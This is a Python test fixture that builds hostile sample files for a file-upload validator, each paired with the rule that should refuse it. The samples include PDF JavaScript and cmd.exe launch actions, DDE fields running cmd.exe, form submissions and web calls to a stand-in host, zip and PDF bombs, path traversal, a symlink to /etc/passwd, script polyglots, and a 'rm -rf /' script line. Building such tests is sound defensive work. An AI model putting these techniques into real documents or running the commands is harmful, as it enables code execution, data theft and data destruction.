"""Hostile files, each made here and never kept: its name, its bytes, and the rule that must refuse it."""

from __future__ import annotations

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream

from app.files.faults import EICAR
from tests.files import made

PACKAGE = '<w:p xmlns:o="urn:schemas-microsoft-com:office:office"><o:OLEObject/></w:p>'


def with_attachment() -> bytes:
    document = Pdf.new()
    document.add_blank_page()
    document.attachments["x.txt"] = b"x"
    return made.saved(document)


def encrypted_pdf() -> bytes:
    document = Pdf.new()
    document.add_blank_page()
    return made.saved(document, encryption=pikepdf.Encryption(owner="a", user="b"))


def restricted_pdf() -> bytes:
    document = Pdf.new()
    document.add_blank_page()
    return made.saved(document, encryption=pikepdf.Encryption(owner="a", user=""))


def bomb_pdf() -> bytes:
    document = Pdf.new()
    document.add_blank_page()
    packed = Stream(document, zlib.compress(b"\0" * (40 * 1024 * 1024), 9))
    packed.Filter = Name.FlateDecode
    document.Root.Extra = document.make_indirect(packed)
    return made.saved(document, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def form_pdf() -> bytes:
    return made.pdf(AcroForm=Dictionary(Fields=Array([]), XFA=Array(["template", "x"])))


def script_in_page() -> bytes:
    document = Pdf.new()
    page = document.add_blank_page()
    page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    return made.saved(document)


def flagged(entry: bytes) -> bytes:
    """An archive that says of its entries that they are encrypted."""
    data = bytearray(entry)
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    data[6] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """Two entries of the directory that name the same bytes."""
    data = made.archive({"a.txt": b"0" * 5000})
    end = data.index(b"PK\x05\x06")
    start = data.index(b"PK\x01\x02")
    entry = data[start:end]
    other = entry.replace(b"a.txt", b"b.txt")
    tail = bytearray(data[end:])
    struct.pack_into("<HHI", tail, 8, 2, 2, len(entry) * 2)
    return data[:start] + entry + other + bytes(tail)


def linked() -> bytes:
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        entry = zipfile.ZipInfo("link.txt")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def many() -> bytes:
    return made.archive({f"{number}.txt": b"x" for number in range(5_001)})


def huge_picture() -> bytes:
    """A picture whose header promises 900 million pixels."""
    data = bytearray(made.picture("PNG"))
    struct.pack_into("!II", data, 16, 30_000, 30_000)
    struct.pack_into("!I", data, 29, zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def png_with(name: bytes, content: bytes) -> bytes:
    data = made.picture("PNG")
    chunk = struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))
    return data[:33] + chunk + data[33:]


def template(target: str) -> bytes:
    return made.docx(relations=made.relation("attachedTemplate", target, external=True))


def part(name: str, content: bytes | str = "x") -> bytes:
    return made.docx(parts={name: content})


JPEG, ZIP = made.picture("JPEG"), made.archive({"a.txt": "x"})
DOCTYPE = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    # PDF
    "script when opened": ("a.pdf", made.with_action({"/S": Name.JavaScript, "/JS": "app.alert(1)"}), "file.active"),
    "script of a page": ("a.pdf", script_in_page(), "file.active"),
    "script among the names": (
        "a.pdf",
        made.pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array(["x", Dictionary(S=Name.JavaScript, JS="1")])))),
        "file.active",
    ),
    "starts a program": ("a.pdf", made.with_action({"/S": Name.Launch, "/F": "cmd.exe"}), "file.active"),
    "sends the form": ("a.pdf", made.with_action({"/S": Name.SubmitForm, "/F": "http://a.example"}), "file.active"),
    "opens another document": ("a.pdf", made.with_action({"/S": Name.GoToR, "/F": "\\\\host\\x.pdf"}), "file.active"),
    "XFA form": ("a.pdf", form_pdf(), "file.active"),
    "rich media": ("a.pdf", made.with_note(Subtype=Name.RichMedia), "file.active"),
    "file attached": ("a.pdf", with_attachment(), "file.objects"),
    "file attached to a remark": ("a.pdf", made.with_note(Subtype=Name.FileAttachment), "file.objects"),
    "PDF with a password": ("a.pdf", encrypted_pdf(), "file.encrypted"),
    "PDF with restrictions": ("a.pdf", restricted_pdf(), "file.encrypted"),
    "PDF bomb": ("a.pdf", bomb_pdf(), "file.bomb"),
    "PDF cut off": ("a.pdf", b"%PDF-1.7 x", "file.damaged"),
    "PDF and archive": ("a.pdf", made.pdf() + ZIP, "file.polyglot"),
    "PDF behind a picture": ("a.pdf", b"GIF89a" + made.pdf(), "file.kind"),
    "PDF behind a page": ("a.pdf", b"<html><script>1</script>" + made.pdf(), "file.polyglot"),
    # office packages
    "macros": ("a.docx", part("word/vbaProject.bin"), "file.macros"),
    "macros by type": (
        "a.docx",
        made.docx(types='<Override PartName="/word/m.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "file.macros",
    ),
    "macros by name": ("a.docm", made.docx(), "file.kind"),
    "macro sheet": ("a.xlsx", made.xlsx(parts={"xl/macrosheets/sheet1.xml": "<x/>"}), "file.macros"),
    "runs when opened": (
        "a.xlsx",
        made.xlsx(book='<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>'),
        "file.macros",
    ),
    "DDE": ("a.docx", made.docx(made.field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "file.commands"),
    "DDE in pieces": ("a.docx", made.docx(made.field("DD", "EAU", "TO cmd")), "file.commands"),
    "DDE in a simple field": (
        "a.docx", made.docx('<w:p><w:fldSimple w:instr="dde cmd x"/></w:p>'), "file.commands",
    ),
    "DDE by character codes": ("a.docx", made.docx(made.field("QUOTE 68 68 69 65 85 84 79")), "file.commands"),
    "DDE in a cell": ("a.xlsx", made.xlsx("<c r='A1'><f>cmd|'/c calc'!A0</f></c>"), "file.commands"),
    "asks the web from a cell": (
        "a.xlsx", made.xlsx("<c r='A1'><f>WEBSERVICE(\"http://a.example\")</f></c>"), "file.commands",
    ),
    "template from the web": ("a.docx", template("http://a.example/x.dotm"), "file.external"),
    "template from a share": ("a.docx", template("file://host/x.dotm"), "file.external"),
    "picture from the web": (
        "a.docx", made.docx(relations=made.relation("image", "http://a.example/x.png", external=True)), "file.external",
    ),
    "link to a share": (
        "a.docx", made.docx(relations=made.relation("hyperlink", "file://host/x", external=True)), "file.external",
    ),
    "text from elsewhere": ("a.docx", made.docx(made.field('INCLUDETEXT "http://a.example"')), "file.external"),
    "workbook from elsewhere": (
        "a.xlsx", made.xlsx(parts={"xl/externalLinks/externalLink1.xml": "<x/>"}), "file.external",
    ),
    "object embedded": ("a.docx", part("word/embeddings/oleObject1.bin"), "file.objects"),
    "workbook embedded": ("a.docx", part("word/embeddings/sheet.xlsx", made.xlsx()), "file.objects"),
    "ActiveX": ("a.docx", part("word/activeX/activeX1.xml", "<x/>"), "file.objects"),
    "page embedded": (
        "a.docx", made.docx(relations=made.relation("aFChunk", "x.htm"), parts={"word/x.htm": "x"}), "file.objects",
    ),
    "entities": ("a.docx", part("word/styles.xml", DOCTYPE), "file.external"),
    "part that is no XML": ("a.docx", part("word/styles.xml", "<x"), "file.damaged"),
    "package with a password": (
        "a.docx", made.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "file.encrypted",
    ),
    "other package": ("表.docx", made.xlsx(), "file.kind"),
    "package cut off": ("坏.docx", made.docx()[:300], "file.damaged"),
    # compound files
    "macros of old": ("a.doc", made.doc({"Macros": b"", "VBA": b""}), "file.macros"),
    "objects of old": ("a.doc", made.doc({"ObjectPool": b""}), "file.objects"),
    "password of old": ("a.doc", made.doc(flags=0x0100), "file.encrypted"),
    "DDE of old": ("a.doc", made.doc(text=b"\x13 DDEAUTO cmd\x14"), "file.commands"),
    "template of old": ("a.doc", made.doc({"Data": "http://a.example/x.dot".encode("utf-16-le")}), "file.external"),
    "workbook of old": ("a.doc", made.compound({"Workbook": b"x"}), "file.kind"),
    "compound cut off": ("a.doc", made.doc()[:600], "file.damaged"),
    # archives
    "zip bomb": ("a.zip", made.archive({"a.txt": b"0" * (120 * 1024 * 1024)}), "file.bomb"),
    "too large unpacked": ("a.docx", part("word/x.xml", b" " * (201 * 1024 * 1024)), "file.bomb"),
    "too many entries": ("a.zip", many(), "file.bomb"),
    "entries over each other": ("a.zip", overlapping(), "file.bomb"),
    "leads out of the folder": ("a.zip", made.archive({"../../a.txt": "x"}), "file.names"),
    "link to elsewhere": ("a.zip", linked(), "file.names"),
    "archive with a password": ("a.zip", flagged(ZIP), "file.encrypted"),
    "archive in an archive": ("a.zip", made.archive({"b.zip": ZIP}), "file.kind"),
    "program in an archive": ("a.zip", made.archive({"a.exe": b"MZ"}), "file.kind"),
    "hostile file in an archive": ("a.zip", made.archive({"b.docx": part("word/vbaProject.bin")}), "file.macros"),
    "test virus in an archive": ("a.zip", made.archive({"a.txt": EICAR}), "file.virus"),
    "archive behind a program": ("a.zip", b"MZ" + b"\0" * 62 + ZIP, "file.kind"),
    "program in an OFD": ("a.ofd", made.ofd({"Doc_0/x.exe": b"MZ"}), "file.objects"),
    # pictures
    "too many pixels": ("a.png", huge_picture(), "file.pixels"),
    "picture cut off": ("a.jpg", JPEG[:200], "file.damaged"),
    "picture and page": ("a.png", png_with(b"tEXt", b"Comment\0<script>alert(1)</script>"), "file.polyglot"),
    "picture and archive": ("a.jpg", JPEG + ZIP, "file.polyglot"),
    "text chunk bomb": (
        "a.png", png_with(b"zTXt", b"x\0\0" + zlib.compress(b"0" * (70 * 1024 * 1024))), "file.damaged",
    ),
    "HEIC in name only": ("a.heic", made.recording(b"heic"), "file.damaged"),
    # all else
    "drawing": ("image.svg", b"<svg/>", "file.kind"),
    "page": ("page.html", b"<script>", "file.kind"),
    "page as text": ("a.txt", b"<!DOCTYPE html><script>alert(1)</script>", "file.text"),
    "script as text": ("a.txt", b"#!/bin/sh\nrm -rf /", "file.text"),
    "no text": ("二进制.txt", b"\x00\x01", "file.text"),
    "program": ("run.exe", b"MZ", "file.kind"),
    "program by another name": ("报告.pdf", b"MZ" + b"\0" * 2000, "file.kind"),
    "no ending": ("noextension", made.pdf(), "file.kind"),
    "test virus": ("a.txt", EICAR, "file.virus"),
    "test virus in a package": ("a.docx", part("word/media/x.png", EICAR), "file.virus"),
    "recording cut off": ("a.mp4", made.recording()[:-30], "file.damaged"),
    "nothing": ("空.pdf", b"", "file.empty"),
}  # fmt: skip
